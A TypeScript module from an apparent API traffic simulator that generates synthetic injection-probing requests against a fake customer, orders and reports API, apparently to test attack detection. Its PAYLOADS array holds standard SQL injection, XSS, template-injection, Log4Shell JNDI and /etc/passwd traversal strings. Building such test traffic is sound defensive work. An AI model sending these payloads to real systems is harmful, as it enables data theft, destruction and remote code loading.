import { api, CUSTOMER_COUNT, withParam, type ApiCall } from '../api.js';
import { dayStart, isoDate, DAY_MS, HOUR_MS } from '../calendar.js';
import { Client } from '../client.js';
import type { SimRequest } from '../event.js';
import { STRAY_AGENTS } from '../identity.js';
import { Origin } from '../origin.js';
import type { Rng } from '../prng.js';
import { BusinessHours } from './business-hours.js';
import type { Behaviour, Persona, PersonaContext } from './persona.js';

/** What goes after (or instead of) a parameter's usual value. */
export const PAYLOADS = [
  "' OR '1'='1",
  "' OR 1=1--",
  '" OR ""="',
  "'; DROP TABLE customers;--",
  ' UNION SELECT NULL,NULL,NULL--',
  "' AND SLEEP(5)--",
  "') OR ('1'='1",
  ' AND 1=CONVERT(int,@@version)--',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${jndi:ldap://198.51.100.7/a}',
  '../../../../etc/passwd',
  "admin'--",
];

/** Which parameter of which call gets the payload, with a plausible usual value; `t` is the request time. */
const TARGETS: ReadonlyArray<readonly [(rng: Rng, t: number) => [ApiCall, string, string], number]> = [
  [() => [api.customers(1, 20), 'page', '1'], 2],
  [(rng) => [api.customers(1, 20), 'limit', String(rng.pick([20, 50]))], 1],
  [(rng) => [api.customers(1, 20), 'q', rng.pick(['smith', 'acme', 'test'])], 2],
  [(rng) => [api.customers(1, 20), 'sort', rng.pick(['name', 'created_at'])], 1],
  [(rng) => { const id = rng.int(1, CUSTOMER_COUNT); return [api.ordersOfCustomer(id, 1), 'customer_id', String(id)]; }, 3],
  [(_rng, t) => { const date = isoDate(t - DAY_MS); return [api.dailyReport(date), 'date', date]; }, 1],
];

/**
 * Someone with a tenant's key looking for an injection: from the attack on, around the
 * clock, 1-5 requests an hour whose query parameter (page, limit, q, sort, customer_id, date)
 * carries a quote, SQL, markup, template or path-traversal shape after or instead of a
 * plausible value. Mostly answered 400, now and then 500 or an empty 200. Half of them come
 * from the tenant's own network and agent, half from a new network with another agent. The
 * tenant's own integration goes on.
 */
class InjectionProber implements Behaviour {
  constructor(
    private readonly ctx: PersonaContext,
    private readonly rng: Rng,
    private readonly base: BusinessHours,
    private readonly client: Client,
    private readonly origin: Origin,
    private readonly perHour: number,
    readonly startMs: number,
  ) {}

  day(day: number, out: SimRequest[]): void {
    this.base.day(day, out);
    const start = dayStart(this.ctx.window, day);
    for (let h = 0; h < 24; h++) {
      const hourStart = start + h * HOUR_MS;
      if (hourStart + HOUR_MS <= this.startMs) continue;
      if (this.startMs >= hourStart) out.push(this.probe(this.startMs));
      const n = this.rng.poisson(this.perHour);
      for (let i = 0; i < n; i++) {
        const t = hourStart + this.rng.uniform(0, HOUR_MS);
        if (t > this.startMs) out.push(this.probe(t));
      }
    }
  }

  private probe(t: number): SimRequest {
    const rng = this.rng;
    const [call, param, usual] = rng.weighted(TARGETS)(rng, t);
    const payload = rng.pick(PAYLOADS);
    return this.client.send(withParam(call, param, rng.chance(0.6) ? usual + payload : payload), t, this.origin, true);
  }
}

export function injectionProber(ctx: PersonaContext): Persona {
  const base = new BusinessHours(ctx);
  const rng = ctx.fork('attack');
  const start = dayStart(ctx.window, ctx.window.attackDay) + rng.int(0, 20 * HOUR_MS);
  const origin = rng.chance(0.5)
    ? base.origin
    : new Origin([ctx.pool.allocate(rng)], [rng.int(2, 250)], [rng.pick(STRAY_AGENTS)], rng.int(40, 300));
  const perHour = rng.uniform(1, 5);
  return {
    behaviour: new InjectionProber(ctx, rng, base, new Client(ctx.apiKey, 0, rng), origin, perHour, start),
    tzOffsetMin: base.tzOffsetMin,
    attackStartMs: start,
    attack: {
      description: `injection probing: quote/SQL/markup shapes in query parameters, ~${perHour.toFixed(1)} an hour around the clock, ${origin === base.origin ? "from the key's own network and agent" : 'from a new network and agent'}`,
      routes: ['/v1/customers', '/v1/orders', '/v1/reports/daily'],
      networks: [...origin.networks],
      userAgents: [...origin.userAgents],
    },
  };
}
